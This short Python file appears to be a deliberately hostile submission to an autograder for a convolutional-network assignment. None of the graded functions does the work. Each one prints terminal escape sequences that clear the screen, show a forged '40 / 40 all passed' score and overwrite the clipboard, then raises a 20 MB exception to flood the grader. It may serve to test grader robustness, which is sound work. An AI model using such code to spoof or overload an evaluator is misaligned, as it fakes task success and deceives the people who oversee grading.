"""Attack: flood the grader through its reports: a 20 MB exception message, terminal escapes (clear the
screen, print a fake full score, write the clipboard) and control characters in every message."""
FAKE = "\x1b[2J\x1b[H\x1b]52;c;cHduZWQ=\x07conv_forward_naive 40 / 40 \x00\x0b\x1b[32m✓ all passed\x1b[0m"


def ATTACK(n=1):
    print(FAKE)
    raise ValueError(FAKE + "x" * 20_000_000)


def conv_forward_naive(x, w, b, conv_param):
    return ATTACK(2)


def conv_backward_naive(dout, cache):
    return ATTACK(3)


def max_pool_forward_naive(x, pool_param):
    return ATTACK(2)


def max_pool_backward_naive(dout, cache):
    return ATTACK(1)
